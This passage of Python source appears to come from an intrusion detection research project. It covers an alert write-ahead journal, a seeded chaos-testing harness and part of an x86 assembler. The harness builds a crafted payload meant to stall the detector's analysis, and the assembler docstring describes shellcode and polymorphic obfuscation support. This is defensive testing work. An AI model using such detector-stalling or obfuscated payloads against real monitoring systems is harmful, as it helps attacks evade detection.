    "severity",
    "frame_origin",
    "detail",
)


def alert_to_record(alert: "Alert") -> dict[str, Any]:
    """Portable dict for one alert (drops the live ``match`` handle)."""

    return {name: getattr(alert, name) for name in ALERT_FIELDS}


def record_to_alert(record: dict[str, Any]) -> "Alert":
    from repro.nids.alerts import Alert

    return Alert(**{name: record[name] for name in ALERT_FIELDS})


def _normalise_key(key: Any) -> Any:
    """JSON round-trips lists, not tuples — canonicalise on the way out."""

    if isinstance(key, list):
        return tuple(key)
    return key


@dataclass
class JournalRecovery:
    """Result of scanning the journal segments on restart."""

    entries: list[tuple[Any, dict[str, Any]]] = field(default_factory=list)
    torn: bool = False
    truncated_bytes: int = 0
    segments: int = 0

    @property
    def keys(self) -> list[Any]:
        return [key for key, _ in self.entries]


class AlertJournal:
    """Append-only CRC-framed journal with segment rotation."""

    def __init__(
        self,
        directory: str | os.PathLike[str],
        *,
        fsync_batch: int = 8,
        segment_max_bytes: int = 4 * 1024 * 1024,
        registry: MetricsRegistry | None = None,
    ) -> None:
        if fsync_batch < 1:
            raise ValueError("fsync_batch must be >= 1")
        self.directory = Path(directory)
        self.directory.mkdir(parents=True, exist_ok=True)
        self.fsync_batch = fsync_batch
        self.segment_max_bytes = segment_max_bytes
        self.appended = 0
        self.synced = 0
        self._pending = 0
        self._fh = None
        self._segment_index = self._last_segment_index()
        self._fsync_counter = None
        if registry is not None:
            self._fsync_counter = registry.counter(
                "repro_journal_fsync_total",
                help="fsync calls issued by the write-ahead alert journal.",
                unit="calls",
            )
        # Chaos seam: when set, the next append writes this many bytes of
        # the frame, flushes, and raises — simulating a crash mid-write.
        self._tear_after_bytes: int | None = None

    # -- segment bookkeeping ------------------------------------------

    def _segments(self) -> list[Path]:
        found = []
        for path in self.directory.iterdir():
            if _SEGMENT_RE.match(path.name):
                found.append(path)
        return sorted(found)

    def _last_segment_index(self) -> int:
        segments = self._segments()
        if not segments:
            return 0
        return int(_SEGMENT_RE.match(segments[-1].name).group(1))

    def _segment_path(self, index: int) -> Path:
        return self.directory / f"seg-{index:08d}.wal"

    def _open_for_append(self):
        if self._fh is None:
            if self._segment_index == 0:
                self._segment_index = 1
            self._fh = open(self._segment_path(self._segment_index), "ab")
        return self._fh

    def _rotate_if_needed(self) -> None:
        if self._fh is not None and self._fh.tell() >= self.segment_max_bytes:
            self.sync()
            self._fh.close()
            self._fh = None
            self._segment_index += 1

    # -- write path ---------------------------------------------------

    def append(self, key: Any, alert: Alert | dict[str, Any]) -> None:
        """Frame and append one alert; fsync every ``fsync_batch`` appends."""

        record = alert if isinstance(alert, dict) else alert_to_record(alert)
        payload = json.dumps(
            {"k": key, "a": record}, separators=(",", ":"), sort_keys=True
        ).encode("utf-8")
        frame = _FRAME.pack(_MAGIC, len(payload), zlib.crc32(payload)) + payload
        fh = self._open_for_append()
        if self._tear_after_bytes is not None:
            torn = frame[: self._tear_after_bytes]
            self._tear_after_bytes = None
            fh.write(torn)
            fh.flush()
            os.fsync(fh.fileno())
            raise OSError("journal write torn by fault injection")
        fh.write(frame)
        self.appended += 1
        self._pending += 1
        if self._pending >= self.fsync_batch:
            self.sync()
        self._rotate_if_needed()

    def sync(self) -> None:
        """Flush and fsync any buffered appends."""

        if self._fh is None or self._pending == 0:
            if self._fh is not None:
                self._fh.flush()
            return
        self._fh.flush()
        os.fsync(self._fh.fileno())
        self.synced += self._pending
        self._pending = 0
        if self._fsync_counter is not None:
            self._fsync_counter.inc()

    def close(self) -> None:
        if self._fh is not None:
            self.sync()
            self._fh.close()
            self._fh = None

    # -- recovery path ------------------------------------------------

    def recover(self, *, repair: bool = True) -> JournalRecovery:
        """Scan all segments, truncating at the first torn/corrupt frame.

        With ``repair=True`` (the default) the torn segment is truncated
        in place and any later segments are removed, so subsequent
        appends continue from a clean tail.
        """

        if self._fh is not None:
            raise RuntimeError("recover() must run before the journal is opened for append")
        result = JournalRecovery()
        segments = self._segments()
        result.segments = len(segments)
        for seg_no, path in enumerate(segments):
            data = path.read_bytes()
            good_end, entries, torn = _scan_segment(data)
            result.entries.extend(entries)
            if torn:
                result.torn = True
                result.truncated_bytes += len(data) - good_end
                if repair:
                    with open(path, "r+b") as fh:
                        fh.truncate(good_end)
                    for later in segments[seg_no + 1 :]:
                        result.truncated_bytes += later.stat().st_size
                        later.unlink()
                break
        if segments:
            self._segment_index = self._last_segment_index()
        return result

    def prune(self, keep_segments: int = 1) -> int:
        """Remove all but the newest ``keep_segments`` segment files."""

        segments = self._segments()
        removed = 0
        for path in segments[: max(0, len(segments) - keep_segments)]:
            path.unlink()
            removed += 1
        return removed


def _scan_segment(
    data: bytes,
) -> tuple[int, list[tuple[Any, dict[str, Any]]], bool]:
    """Parse frames from one segment.

    Returns ``(good_end, entries, torn)`` where ``good_end`` is the byte
    offset after the last intact frame.
    """

    entries: list[tuple[Any, dict[str, Any]]] = []
    pos = 0
    size = len(data)
    while pos + _FRAME.size <= size:
        magic, length, crc = _FRAME.unpack_from(data, pos)
        if magic != _MAGIC:
            return pos, entries, True
        end = pos + _FRAME.size + length
        if end > size:
            return pos, entries, True
        payload = data[pos + _FRAME.size : end]
        if zlib.crc32(payload) != crc:
            return pos, entries, True
        try:
            decoded = json.loads(payload.decode("utf-8"))
            key = _normalise_key(decoded["k"])
            record = decoded["a"]
        except (ValueError, KeyError, UnicodeDecodeError):
            return pos, entries, True
        entries.append((key, record))
        pos = end
    if pos != size:
        return pos, entries, True
    return pos, entries, False


def tear_journal_tail(directory: str | os.PathLike[str], drop: int = 5) -> Path:
    """Chaos helper: chop ``drop`` bytes off the newest segment's tail.

    Simulates the partial frame a crash leaves mid-``write``.  Returns
    the path of the torn segment.
    """

    directory = Path(directory)
    segments = sorted(p for p in directory.iterdir() if _SEGMENT_RE.match(p.name))
    if not segments:
        raise FileNotFoundError(f"no journal segments under {directory}")
    tail = segments[-1]
    size = tail.stat().st_size
    if size == 0:
        raise ValueError(f"segment {tail} is empty; nothing to tear")
    with open(tail, "r+b") as fh:
        fh.truncate(max(0, size - drop))
    return tail


def replay_entries(
    entries: Iterable[tuple[Any, dict[str, Any]]],
) -> list[tuple[Any, Alert]]:
    """Rehydrate recovered journal entries into live alerts."""

    return [(key, record_to_alert(record)) for key, record in entries]

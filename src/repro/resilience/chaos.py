"""Deterministic chaos harness: prove the containment layer, on demand.

Fault tolerance that is never exercised is fault tolerance that does not
exist.  This module injects the failure modes the resilience layer
claims to survive — decode faults, worker-process kills, analysis
stalls, truncated captures — in a *seeded, replayable* way, so the chaos
suite (``tests/nids/test_chaos.py``) can assert byte-identical behaviour
run after run and CI can pin a seed matrix.

Injection is monkeypatch-style: hooks are installed by context manager
and always restored, so a failing assertion never leaks a wrapped
classifier into the next test.  The injector records every fault it
fires (:attr:`FaultInjector.injected`) — a chaos run that injected
nothing proves nothing, and the tests assert on this log.
"""

from __future__ import annotations

import errno
import itertools
import random
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

from ..errors import DecodeError

__all__ = ["FaultInjector", "InjectedFault", "SimulatedCrash",
           "build_stall_payload", "truncate_capture"]


class SimulatedCrash(RuntimeError):
    """In-process stand-in for ``kill -9``: raised at a seeded point and
    deliberately NOT caught by the component under test — the harness
    lets it unwind past the daemon loop (skipping every clean-shutdown
    path) and abandons the instance, exactly as a dead process would."""

#: Single-byte opcodes that decode cleanly but are neither NOP-like (so
#: the sled detector does not swallow them into the sled) nor a repeated
#: dword pattern (so the return-address trimmer keeps them).  Period 8:
#: bytes four apart always differ.
_STALL_OPCODES = bytes([0x60, 0x61, 0x9C, 0x9D, 0xD7, 0xA4, 0xAA, 0xAC])


#: Anchor bait woven into the stall body every 256 bytes:
#: ``xor [eax], al`` (a MemRmw producer) and ``jmp +0`` (a LoopBack
#: producer targeting in-frame).  An adversary crafting a stall payload
#: includes exactly such bytes so the anchor prefilter cannot rule the
#: frame out for every template and cheaply defang the attack — without
#: them the payload never reaches the disassembler it is meant to stall.
#: The bait never completes a template (there is no pointer step), so it
#: adds no alert.
_STALL_BAIT = bytes([0x30, 0x00, 0xEB, 0x00])


def build_stall_payload(instructions: int = 40_000, sled: int = 48) -> bytes:
    """A payload crafted to stall the analyzer (Bania-style).

    A short NOP sled triggers extraction; the body is a long stream of
    valid single-byte instructions (plus periodic anchor bait, so the
    fast-path prefilter must admit the frame), and the disassemble →
    lift → match loop visits nearly ``instructions``-many instructions
    on one frame.  Against a per-payload deadline whose budget is below
    that count, analysis deterministically trips
    :class:`~repro.errors.DeadlineExceeded`.
    """
    body = instructions - sled
    reps = max(1, (body + len(_STALL_OPCODES) - 1) // len(_STALL_OPCODES))
    stream = bytearray((_STALL_OPCODES * reps)[:body])
    # Every preceding byte decodes as a one-byte instruction, so any
    # overwrite offset falls on an instruction boundary.  Each bait site
    # turns four one-byte instructions into two two-byte ones; pad the
    # tail so the payload still decodes to >= ``instructions`` total.
    sites = range(0, max(0, len(stream) - len(_STALL_BAIT)), 256)
    for at in sites:
        stream[at:at + len(_STALL_BAIT)] = _STALL_BAIT
    stream += _STALL_OPCODES * ((2 * len(sites) + 7) // 8)
    return b"\x90" * sled + bytes(stream)


def truncate_capture(src: str | Path, dst: str | Path, drop: int = 8) -> int:
    """Copy ``src`` minus its last ``drop`` bytes — a capture that died
    mid-record (a crashed sensor, a full disk).  Returns bytes written."""
    data = Path(src).read_bytes()
    if drop >= len(data):
        raise ValueError("cannot drop the whole capture")
    Path(dst).write_bytes(data[:-drop])
    return len(data) - drop


@dataclass
class InjectedFault:
    """One fault the injector actually fired (the proof-of-injection log)."""

    kind: str
    at: int
    detail: str = ""


class FaultInjector:
    """Seeded fault injection with self-restoring hooks."""

    def __init__(self, seed: int = 0) -> None:
        self.seed = seed
        self.rng = random.Random(seed)
        self.injected: list[InjectedFault] = []

    def pick(self, population: int, k: int) -> set[int]:
        """``k`` distinct indices in ``range(population)``, deterministic
        for the injector's seed."""
        k = min(k, population)
        return set(self.rng.sample(range(population), k))

    # -- decode faults -------------------------------------------------------

    @contextmanager
    def decode_faults(self, nids, should_fault):
        """Wrap the engine's classifier so chosen packets raise
        :class:`~repro.errors.DecodeError` mid-pipeline.

        ``should_fault(index, pkt)`` decides per classify call; faulted
        calls never reach the real classifier (the packet is the fault).
        """
        classifier = nids.classifier
        # The hook is an instance-dict override; remember whether one was
        # already installed (nested injectors) so restore is exact.
        had_override = "classify" in classifier.__dict__
        original = classifier.classify
        calls = itertools.count()

        def chaotic_classify(pkt):
            index = next(calls)
            if should_fault(index, pkt):
                self.injected.append(InjectedFault(
                    "decode", index, detail=str(pkt.src)))
                raise DecodeError(
                    f"chaos: injected decode fault at packet {index}")
            return original(pkt)

        classifier.classify = chaotic_classify
        try:
            yield self
        finally:
            if had_override:
                classifier.classify = original
            else:
                del classifier.__dict__["classify"]

    # -- worker kills --------------------------------------------------------

    def kill_shard(self, engine, shard: int) -> int:
        """SIGTERM every worker process of one shard pool; returns how
        many were killed.  The next result drained from that shard raises
        ``BrokenProcessPool``, which is exactly the event the self-healing
        path must absorb."""
        pool = engine._pools[shard]
        procs = list(getattr(pool, "_processes", {}).values())
        if not procs:
            # Flow→shard routing is hash-salted per run; a shard that saw
            # no payloads yet has no worker.  Force the spawn so the kill
            # actually lands (a dead pool stays dead: nothing to do).
            try:
                pool.submit(len, b"probe").result()
            except Exception:
                pass
            procs = list(getattr(pool, "_processes", {}).values())
        for proc in procs:
            proc.terminate()
        for proc in procs:
            proc.join(timeout=10)
        self.injected.append(InjectedFault(
            "worker-kill", shard, detail=f"{len(procs)} process(es)"))
        return len(procs)

    # -- analysis stalls -----------------------------------------------------

    def stall_payload(self, instructions: int = 40_000) -> bytes:
        """A deterministic detector-stalling payload (logged)."""
        payload = build_stall_payload(instructions)
        self.injected.append(InjectedFault(
            "stall", instructions, detail=f"{len(payload)} bytes"))
        return payload

    # -- capture truncation --------------------------------------------------

    def truncate(self, src: str | Path, dst: str | Path, drop: int = 8) -> int:
        """Truncated-capture fault (logged); see :func:`truncate_capture`."""
        written = truncate_capture(src, dst, drop=drop)
        self.injected.append(InjectedFault(
            "truncate", drop, detail=f"{written} bytes kept"))
        return written

    # -- whole-process crashes (durability layer) ----------------------------

    @contextmanager
    def crash_on_processed(self, daemon, at: int):
        """Kill the daemon (mid-batch) once ``at`` packets have been
        processed in total: the wrapped ``process_packet`` raises
        :class:`SimulatedCrash` *before* analyzing packet ``at``, so the
        packet is neither analyzed nor counted — it is still on the
        ring, which dies with the process."""
        nids = daemon.nids
        had_override = "process_packet" in nids.__dict__
        original = nids.process_packet

        def crashing_process(pkt):
            if daemon._processed.value >= at:
                self.injected.append(InjectedFault(
                    "crash", at, detail="mid-batch"))
                raise SimulatedCrash(f"chaos: killed at {at} processed")
            return original(pkt)

        nids.process_packet = crashing_process
        try:
            yield self
        finally:
            if had_override:
                nids.process_packet = original
            else:
                nids.__dict__.pop("process_packet", None)

    @contextmanager
    def crash_on_checkpoint(self, store):
        """Kill the process mid-checkpoint: the temp file is durable but
        the rename never happens, so recovery must fall back to the
        previous checkpoint (or none)."""
        def explode(tmp_path):
            self.injected.append(InjectedFault(
                "crash", 0, detail=f"mid-checkpoint: {tmp_path.name}"))
            raise SimulatedCrash("chaos: killed before checkpoint rename")

        previous = store.pre_rename
        store.pre_rename = explode
        try:
            yield self
        finally:
            store.pre_rename = previous

    def crash_on_journal_write(self, journal, torn_bytes: int = 5) -> None:
        """Arm the journal's tear seam: the *next* append writes only the
        first ``torn_bytes`` bytes of its frame, fsyncs the torn tail to
        disk, and raises — the on-disk image a crash inside ``write()``
        leaves behind."""
        journal._tear_after_bytes = torn_bytes
        self.injected.append(InjectedFault(
            "crash", torn_bytes, detail="mid-journal-write"))

    def kill_fleet(self, fleet) -> int:
        """Hard-kill a fleet "process tree": terminate and reap every
        shard worker, then drop the broken pools without flushing —
        in-flight batches and collected-but-unemitted alerts are lost,
        as in a real dispatcher death.  Returns processes killed."""
        killed = 0
        for pool in fleet._pools:
            procs = list(getattr(pool, "_processes", {}).values())
            for proc in procs:
                proc.terminate()
            for proc in procs:
                proc.join(timeout=10)
                killed += 1
            pool.shutdown(wait=False, cancel_futures=True)
        fleet._pools = []
        # A real dispatcher death reclaims its shared-memory segments
        # via the kernel; here the finalizer-backed close stands in, so
        # a long kill matrix doesn't accumulate dead rings in /dev/shm.
        for ring in getattr(fleet, "_rings", []):
            if ring is not None:
                ring.close()
        fleet._rings = [None] * len(fleet._rings)
        self.injected.append(InjectedFault(
            "crash", killed, detail="fleet-kill"))
        return killed

    @contextmanager
    def spool_enospc(self, delivery):
        """Every spool write inside the context raises ``ENOSPC`` out of
        the spool journal, driving delivery's real containment path:
        count the refusal, never raise — the write-ahead journal, not
        the spool, is the loss backstop."""
        spool = delivery._open_spool()
        if spool is None:
            raise ValueError("delivery has no spool_dir configured")
        original = spool.append

        def refuse(key, alert):
            self.injected.append(InjectedFault(
                "enospc", 0, detail=f"spool refused key {key}"))
            raise OSError(errno.ENOSPC, "No space left on device (chaos)")

        spool.append = refuse
        try:
            yield self
        finally:
            spool.append = original

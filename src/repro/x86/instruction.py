"""The x86 instruction object shared by the assembler and disassembler."""

from __future__ import annotations

from dataclasses import dataclass, field, replace

from .operands import Imm, Mem, Operand
from .registers import Register

__all__ = ["Instruction", "BRANCH_MNEMONICS", "COND_BRANCHES", "LOOPS"]

# Conditional branches: mnemonic -> condition code (tttn nibble).
COND_BRANCHES = {
    "jo": 0x0, "jno": 0x1, "jb": 0x2, "jae": 0x3, "je": 0x4, "jne": 0x5,
    "jbe": 0x6, "ja": 0x7, "js": 0x8, "jns": 0x9, "jp": 0xA, "jnp": 0xB,
    "jl": 0xC, "jge": 0xD, "jle": 0xE, "jg": 0xF,
}
# Common aliases normalized at parse time.
COND_ALIASES = {"jz": "je", "jnz": "jne", "jc": "jb", "jnc": "jae",
                "jnae": "jb", "jnb": "jae", "jna": "jbe", "jnbe": "ja",
                "jnge": "jl", "jnl": "jge", "jng": "jle", "jnle": "jg"}

LOOPS = {"loop", "loope", "loopne", "jecxz"}
LOOP_ALIASES = {"loopz": "loope", "loopnz": "loopne"}

BRANCH_MNEMONICS = set(COND_BRANCHES) | LOOPS | {"jmp", "call"}


@dataclass
class Instruction:
    """One decoded or to-be-encoded instruction.

    ``address`` is the virtual address assigned during disassembly (frames
    are decoded at base 0 unless told otherwise); ``raw`` holds the encoded
    bytes once known.  ``label`` carries a symbolic branch target before
    the assembler resolves it.
    """

    mnemonic: str
    operands: tuple[Operand, ...] = ()
    address: int = 0
    raw: bytes = b""
    label: str | None = None  # symbolic target for branch instructions

    @property
    def size(self) -> int:
        return len(self.raw)

    @property
    def end(self) -> int:
        return self.address + self.size

    @property
    def is_branch(self) -> bool:
        return self.mnemonic in BRANCH_MNEMONICS

    @property
    def is_conditional(self) -> bool:
        return self.mnemonic in COND_BRANCHES or self.mnemonic in LOOPS

    @property
    def is_terminator(self) -> bool:
        """True if control never falls through (jmp/ret/retn/hlt)."""
        return self.mnemonic in ("jmp", "ret", "retn", "hlt")

    def target(self) -> int | None:
        """Absolute branch target, if this is a direct branch."""
        if self.is_branch and self.operands and isinstance(self.operands[0], Imm):
            return self.operands[0].value
        return None

    def reads(self) -> tuple[Register, ...]:
        """Registers read for addressing (not full dataflow — see repro.ir)."""
        out: list[Register] = []
        for op in self.operands:
            if isinstance(op, Mem):
                out.extend(op.registers())
            elif isinstance(op, Register):
                out.append(op)
        return tuple(out)

    def with_address(self, address: int) -> "Instruction":
        return replace(self, address=address)

    def __str__(self) -> str:
        if self.label is not None and self.is_branch:
            return f"{self.mnemonic} {self.label}"
        if self.is_branch and self.operands and isinstance(self.operands[0], Imm):
            return f"{self.mnemonic} {self.operands[0].value & 0xFFFFFFFF:#x}"
        if not self.operands:
            return self.mnemonic
        return f"{self.mnemonic} " + ", ".join(str(op) for op in self.operands)


def format_listing(instructions: list[Instruction]) -> str:
    """Render a disassembly listing with addresses and bytes, IDA-style."""
    lines = []
    for ins in instructions:
        raw = ins.raw.hex()
        lines.append(f"{ins.address:08x}  {raw:<16}  {ins}")
    return "\n".join(lines)

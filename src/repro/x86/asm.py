"""x86-32 assembler: Intel syntax text (or Instruction objects) to bytes.

The polymorphic engines and the shellcode corpus both need a real
assembler — ADMmutate-style obfuscation generates fresh instruction
sequences per instance, and hand-maintaining byte strings for eight exploit
payloads would be unmaintainable.  Labels are resolved with iterative branch
relaxation (branches start short and grow to near form only when their
displacement does not fit), which matches how shellcode is normally written
(``jmp short``-heavy).

Supported syntax::

    decode:
        mov ebx, 31h
        add ebx, 64h
        xor byte ptr [eax], bl
        add eax, 1
        loop decode
        db "/bin/sh", 0

Numbers accept ``0x1F``, ``1Fh`` and decimal forms.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

from .errors import AssemblerError
from .instruction import COND_ALIASES, COND_BRANCHES, Instruction, LOOP_ALIASES, LOOPS
from .operands import Imm, Mem, Operand
from .registers import Register, reg, _BY_NAME

__all__ = ["assemble", "parse_asm", "encode_instruction", "Assembler"]

# ---------------------------------------------------------------------------
# Operand / ModRM encoding helpers
# ---------------------------------------------------------------------------


def _fits8(value: int) -> bool:
    return -128 <= value <= 127


def _le(value: int, size: int) -> bytes:
    return (value & ((1 << (size * 8)) - 1)).to_bytes(size, "little")


def _modrm(mod: int, regbits: int, rm: int) -> int:
    return (mod << 6) | ((regbits & 7) << 3) | (rm & 7)


def _encode_rm(regbits: int, rm: Operand) -> bytes:
    """Encode the ModRM (+SIB +disp) bytes for a register-or-memory operand
    with ``regbits`` in the reg field."""
    if isinstance(rm, Register):
        return bytes([_modrm(3, regbits, rm.code)])
    if not isinstance(rm, Mem):
        raise AssemblerError(f"operand cannot be encoded as r/m: {rm}")

    base, index, scale, disp = rm.base, rm.index, rm.scale, rm.disp

    if base is None and index is None:
        # absolute: mod=00 rm=101 disp32
        return bytes([_modrm(0, regbits, 5)]) + _le(disp, 4)

    need_sib = index is not None or (base is not None and base.code == 4)

    if base is not None and base.code == 5 and disp == 0:
        # [ebp] has no mod=00 form; force disp8=0.
        mod, dispbytes = 1, _le(0, 1)
    elif disp == 0:
        mod, dispbytes = 0, b""
    elif _fits8(disp):
        mod, dispbytes = 1, _le(disp, 1)
    else:
        mod, dispbytes = 2, _le(disp, 4)

    if not need_sib:
        assert base is not None
        return bytes([_modrm(mod, regbits, base.code)]) + dispbytes

    scale_bits = {1: 0, 2: 1, 4: 2, 8: 3}[scale]
    index_bits = index.code if index is not None else 4  # 100 = none
    if base is None:
        # SIB with no base: mod=00, base=101, disp32 mandatory.
        sib = (scale_bits << 6) | (index_bits << 3) | 5
        return bytes([_modrm(0, regbits, 4), sib]) + _le(disp, 4)
    if base.code == 5 and mod == 0:
        mod, dispbytes = 1, _le(0, 1)
    sib = (scale_bits << 6) | (index_bits << 3) | base.code
    return bytes([_modrm(mod, regbits, 4), sib]) + dispbytes


# ---------------------------------------------------------------------------
# Per-mnemonic encoders
# ---------------------------------------------------------------------------

_GROUP1 = {"add": 0, "or": 1, "adc": 2, "sbb": 3, "and": 4, "sub": 5,
           "xor": 6, "cmp": 7}
_SHIFT = {"rol": 0, "ror": 1, "rcl": 2, "rcr": 3, "shl": 4, "sal": 4,
          "shr": 5, "sar": 7}
_F7GROUP = {"not": 2, "neg": 3, "mul": 4, "imul1": 5, "div": 6, "idiv": 7}

_NOARG = {
    "nop": b"\x90", "ret": b"\xc3", "leave": b"\xc9", "hlt": b"\xf4",
    "cld": b"\xfc", "std": b"\xfd", "clc": b"\xf8", "stc": b"\xf9",
    "cmc": b"\xf5", "cwde": b"\x98", "cdq": b"\x99", "sahf": b"\x9e",
    "lahf": b"\x9f", "pusha": b"\x60", "pushad": b"\x60", "popa": b"\x61",
    "popad": b"\x61", "pushf": b"\x9c", "pushfd": b"\x9c", "popf": b"\x9d",
    "popfd": b"\x9d", "movsb": b"\xa4", "movsd": b"\xa5", "cmpsb": b"\xa6",
    "cmpsd": b"\xa7", "stosb": b"\xaa", "stosd": b"\xab", "lodsb": b"\xac",
    "lodsd": b"\xad", "scasb": b"\xae", "scasd": b"\xaf", "int3": b"\xcc",
    "daa": b"\x27", "das": b"\x2f", "aaa": b"\x37", "aas": b"\x3f",
    "salc": b"\xd6", "xlatb": b"\xd7",
}

# rep/repe/repne + string-op combinations (one prefix byte + the opcode).
for _sop, _sraw in list(_NOARG.items()):
    if _sop in ("movsb", "movsd", "stosb", "stosd", "lodsb", "lodsd"):
        _NOARG[f"rep {_sop}"] = b"\xf3" + _sraw
    elif _sop in ("cmpsb", "cmpsd", "scasb", "scasd"):
        _NOARG[f"repe {_sop}"] = b"\xf3" + _sraw
        _NOARG[f"repne {_sop}"] = b"\xf2" + _sraw


def _op_size(operands: tuple[Operand, ...]) -> int:
    """Determine the operation width from the operands; immediates alone do
    not constrain width."""
    sizes = {op.size for op in operands if isinstance(op, (Register, Mem))}
    if not sizes:
        return 4
    if len(sizes) > 1:
        raise AssemblerError(f"operand size mismatch: {operands}")
    return sizes.pop()


def _prefix(size: int) -> bytes:
    if size == 2:
        return b"\x66"
    return b""


def _imm_for(value: int, size: int) -> Imm:
    """Build an immediate of exactly `size` bytes, accepting unsigned
    encodings of negative values."""
    bits = size * 8
    if value >= 1 << (bits - 1):
        value -= 1 << bits
    return Imm(value, size)


class _Encoder:
    """Encodes a single instruction (branch displacements already final)."""

    def encode(self, ins: Instruction) -> bytes:
        m = ins.mnemonic
        if m in _NOARG:
            if ins.operands:
                raise AssemblerError(f"{m} takes no operands")
            return _NOARG[m]
        handler = getattr(self, f"_enc_{m}", None)
        if handler is not None:
            return handler(ins.operands)
        if m in _GROUP1:
            return self._group1(m, ins.operands)
        if m in _SHIFT:
            return self._shift(m, ins.operands)
        if m in ("not", "neg", "mul", "div", "idiv"):
            return self._f7(m, ins.operands)
        raise AssemblerError(f"cannot encode mnemonic {m!r}")

    # -- two-operand ALU -------------------------------------------------

    def _group1(self, m: str, ops: tuple[Operand, ...]) -> bytes:
        if len(ops) != 2:
            raise AssemblerError(f"{m} needs 2 operands")
        dst, src = ops
        n = _GROUP1[m]
        size = _op_size(ops)
        pfx = _prefix(size)
        if isinstance(src, Imm):
            imm = src.value
            if size == 1:
                if isinstance(dst, Register) and dst.name == "al":
                    return bytes([n * 8 + 4]) + _le(imm, 1)
                return b"\x80" + _encode_rm(n, dst) + _le(imm, 1)
            if _fits8(imm) and not (isinstance(dst, Register) and dst.code == 0
                                    and not _fits8(imm)):
                if _fits8(imm):
                    return pfx + b"\x83" + _encode_rm(n, dst) + _le(imm, 1)
            if isinstance(dst, Register) and dst.code == 0 and not dst.high:
                return pfx + bytes([n * 8 + 5]) + _le(imm, size)
            return pfx + b"\x81" + _encode_rm(n, dst) + _le(imm, size)
        if isinstance(src, Register) and isinstance(dst, (Register, Mem)):
            opcode = n * 8 + (0 if size == 1 else 1)
            return pfx + bytes([opcode]) + _encode_rm(src.code, dst)
        if isinstance(dst, Register) and isinstance(src, Mem):
            opcode = n * 8 + (2 if size == 1 else 3)
            return pfx + bytes([opcode]) + _encode_rm(dst.code, src)
        raise AssemblerError(f"bad operands for {m}: {ops}")

    # -- mov ----------------------------------------------------------------

    def _enc_mov(self, ops: tuple[Operand, ...]) -> bytes:
        if len(ops) != 2:
            raise AssemblerError("mov needs 2 operands")
        dst, src = ops
        size = _op_size(ops)
        pfx = _prefix(size)
        if isinstance(dst, Register) and isinstance(src, Imm):
            if size == 1:
                return bytes([0xB0 + dst.code]) + _le(src.value, 1)
            return pfx + bytes([0xB8 + dst.code]) + _le(src.value, size)
        if isinstance(dst, Mem) and isinstance(src, Imm):
            if size == 1:
                return b"\xc6" + _encode_rm(0, dst) + _le(src.value, 1)
            return pfx + b"\xc7" + _encode_rm(0, dst) + _le(src.value, size)
        if isinstance(src, Register) and isinstance(dst, (Register, Mem)):
            opcode = 0x88 if size == 1 else 0x89
            return pfx + bytes([opcode]) + _encode_rm(src.code, dst)
        if isinstance(dst, Register) and isinstance(src, Mem):
            opcode = 0x8A if size == 1 else 0x8B
            return pfx + bytes([opcode]) + _encode_rm(dst.code, src)
        raise AssemblerError(f"bad operands for mov: {ops}")

    # -- test / xchg / lea ---------------------------------------------------

    def _enc_test(self, ops: tuple[Operand, ...]) -> bytes:
        if len(ops) != 2:
            raise AssemblerError("test needs 2 operands")
        dst, src = ops
        size = _op_size(ops)
        pfx = _prefix(size)
        if isinstance(src, Imm):
            if isinstance(dst, Register) and dst.code == 0 and not dst.high:
                opcode = 0xA8 if size == 1 else 0xA9
                return pfx + bytes([opcode]) + _le(src.value, size)
            opcode = 0xF6 if size == 1 else 0xF7
            return pfx + bytes([opcode]) + _encode_rm(0, dst) + _le(src.value, size)
        if isinstance(src, Register):
            opcode = 0x84 if size == 1 else 0x85
            return pfx + bytes([opcode]) + _encode_rm(src.code, dst)
        raise AssemblerError(f"bad operands for test: {ops}")

    def _enc_xchg(self, ops: tuple[Operand, ...]) -> bytes:
        if len(ops) != 2:
            raise AssemblerError("xchg needs 2 operands")
        dst, src = ops
        size = _op_size(ops)
        if (size == 4 and isinstance(dst, Register) and isinstance(src, Register)):
            if dst.name == "eax":
                return bytes([0x90 + src.code])
            if src.name == "eax":
                return bytes([0x90 + dst.code])
        if isinstance(src, Register):
            opcode = 0x86 if size == 1 else 0x87
            return _prefix(size) + bytes([opcode]) + _encode_rm(src.code, dst)
        if isinstance(dst, Register):
            opcode = 0x86 if size == 1 else 0x87
            return _prefix(size) + bytes([opcode]) + _encode_rm(dst.code, src)
        raise AssemblerError(f"bad operands for xchg: {ops}")

    def _enc_lea(self, ops: tuple[Operand, ...]) -> bytes:
        if len(ops) != 2 or not isinstance(ops[0], Register) or not isinstance(ops[1], Mem):
            raise AssemblerError(f"bad operands for lea: {ops}")
        return b"\x8d" + _encode_rm(ops[0].code, ops[1])

    # -- inc/dec/push/pop ----------------------------------------------------

    def _enc_inc(self, ops: tuple[Operand, ...]) -> bytes:
        return self._incdec(ops, 0x40, 0)

    def _enc_dec(self, ops: tuple[Operand, ...]) -> bytes:
        return self._incdec(ops, 0x48, 1)

    def _incdec(self, ops: tuple[Operand, ...], short_base: int, ext: int) -> bytes:
        if len(ops) != 1:
            raise AssemblerError("inc/dec need 1 operand")
        (dst,) = ops
        size = _op_size(ops)
        if isinstance(dst, Register) and size == 4:
            return bytes([short_base + dst.code])
        opcode = 0xFE if size == 1 else 0xFF
        return _prefix(size) + bytes([opcode]) + _encode_rm(ext, dst)

    def _enc_push(self, ops: tuple[Operand, ...]) -> bytes:
        if len(ops) != 1:
            raise AssemblerError("push needs 1 operand")
        (src,) = ops
        if isinstance(src, Register):
            if src.size != 4:
                raise AssemblerError("push only supports 32-bit registers")
            return bytes([0x50 + src.code])
        if isinstance(src, Imm):
            if _fits8(src.value):
                return b"\x6a" + _le(src.value, 1)
            return b"\x68" + _le(src.value, 4)
        if isinstance(src, Mem):
            return b"\xff" + _encode_rm(6, src)
        raise AssemblerError(f"bad operand for push: {src}")

    def _enc_pop(self, ops: tuple[Operand, ...]) -> bytes:
        if len(ops) != 1:
            raise AssemblerError("pop needs 1 operand")
        (dst,) = ops
        if isinstance(dst, Register):
            if dst.size != 4:
                raise AssemblerError("pop only supports 32-bit registers")
            return bytes([0x58 + dst.code])
        if isinstance(dst, Mem):
            return b"\x8f" + _encode_rm(0, dst)
        raise AssemblerError(f"bad operand for pop: {dst}")

    # -- shifts / unary F6-F7 group -------------------------------------------

    def _shift(self, m: str, ops: tuple[Operand, ...]) -> bytes:
        if len(ops) != 2:
            raise AssemblerError(f"{m} needs 2 operands")
        dst, count = ops
        n = _SHIFT[m]
        size = _op_size((dst,))
        pfx = _prefix(size)
        if isinstance(count, Imm):
            if count.value == 1:
